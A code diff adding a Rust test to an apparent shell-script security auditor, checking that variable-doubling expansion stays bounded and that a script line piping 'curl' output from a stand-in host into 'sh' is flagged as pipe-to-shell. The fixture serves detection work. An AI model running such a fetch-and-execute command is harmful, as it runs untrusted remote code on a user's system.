@@ -289,3 +289,15 @@ fn the_doc_names_every_vendor_installer_host() {
         assert!(doc.contains(shown), "docs/audit-rules.md does not list {vendor}");
     }
 }
+
+#[test]
+fn a_value_doubled_line_by_line_is_not_followed_past_its_bound() {
+    // Forty doublings would be a terabyte; the audit stops filling it in at MAX_VALUE.
+    let mut script = "#!/bin/sh\nA=cu\n".to_owned();
+    for _ in 0..40 {
+        script.push_str("A=$A$A\n");
+    }
+    script.push_str("C=curl\n$C -s https://x.example/i | sh\n");
+    let report = Auditor::new().audit_files([("run.sh", script.as_bytes())]).unwrap();
+    assert!(report.findings.iter().any(|f| f.rule.id == "exec.pipe-to-shell"), "{:?}", report.findings);
+}
